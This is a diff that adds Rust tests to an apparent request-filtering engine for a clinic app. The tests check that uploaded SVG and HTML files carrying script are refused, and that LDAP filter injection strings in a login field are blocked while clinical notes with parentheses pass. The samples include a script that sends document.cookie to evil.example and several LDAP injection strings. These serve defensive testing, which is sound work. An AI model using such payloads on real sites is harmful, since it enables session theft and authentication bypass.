@@ -816,3 +816,52 @@ fn spreadsheet_formulas_that_run_or_fetch() {
         assert!(post(&e, "/notes", form, &body).hits.is_empty(), "{note}");
     }
 }
+
+#[test]
+fn uploaded_pages_with_script_are_refused_and_plain_ones_pass() {
+    // File contents are not inspected by default, but a page a browser renders from the app's
+    // origin is stored XSS when it carries script.
+    let e = engine();
+    let upload = |filename: &str, ct: &str, content: &str| {
+        let body = format!("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n--b--\r\n");
+        post(&e, "/upload", "multipart/form-data; boundary=b", &body)
+    };
+    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>"#;
+    assert_blocked_by(&upload("logo.svg", "image/svg+xml", svg), 190140);
+    let html =
+        "<html><body><script>fetch('//evil.example/?'+document.cookie)</script></body></html>";
+    assert!(upload("help.html", "text/html", html).blocked);
+    let plain = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Clinic logo</title><path d="M0 0h10v10H0z" fill="#0a0"/></svg>"##;
+    let v = upload("logo.svg", "image/svg+xml", plain);
+    assert!(v.hits.is_empty(), "{v:#?}");
+}
+
+#[test]
+fn ldap_filter_injection() {
+    let e = engine();
+    let json = "application/json";
+    for user in [
+        "*)(uid=*))(|(uid=*",
+        "admin)(|(password=*)",
+        "*)(objectClass=*",
+        "x)(&(cn=admin)",
+        "val)&(cn=admin",
+        "*)!(sn=*",
+        "admin)(|",
+        "bar)(&)",
+    ] {
+        let body = format!(r#"{{"user":"{user}","pass":"x"}}"#);
+        assert_blocked_by(&post(&e, "/login", json, &body), 260100);
+    }
+    // A whole filter (it opens what it closes) is what some apps take; parentheses and equals
+    // signs in clinical text are not filters.
+    for note in [
+        "(userAccountControl:1.2.840.113556.1.4.803:=2)(&(objectCategory=group))",
+        "BP (sitting)(left arm) 120/80; HR=72 (regular)",
+        "Wound (left leg) (dressing=changed)",
+        "Meds: metformin (500 mg)(BID); A1c=7.1 (improved) *see chart* (follow-up)",
+    ] {
+        let body = format!(r#"{{"note":"{note}"}}"#);
+        assert!(post(&e, "/notes", json, &body).hits.is_empty(), "{note}");
+    }
+}
